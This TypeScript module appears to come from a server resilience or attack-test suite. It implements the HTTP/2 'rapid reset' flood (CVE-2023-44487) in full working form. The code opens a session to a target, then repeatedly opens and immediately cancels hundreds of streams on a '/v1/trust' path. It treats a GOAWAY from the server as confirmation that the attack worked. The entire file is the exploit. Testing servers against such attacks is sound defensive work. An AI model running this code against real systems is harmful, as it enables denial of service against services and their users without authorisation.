import { constants } from 'node:http2'
import { type Attack, dialHttp2 } from '../attack.ts'

/** Streams that are opened and reset at once (CVE-2023-44487). */
export const attack: Attack = {
  name: 'rapid resets',
  async round(target) {
    const session = dialHttp2(target)
    session.once('goaway', () => target.confirm())
    for (let at = 0; at < 600 && !session.destroyed && !session.closed; at++) {
      const stream = session.request({ ':path': '/v1/trust' })
      stream.on('error', () => undefined)
      stream.close(constants.NGHTTP2_CANCEL)
      if (at % 60 === 0) await target.pause(20)
    }
    await target.pause(500)
    session.destroy()
  },
}
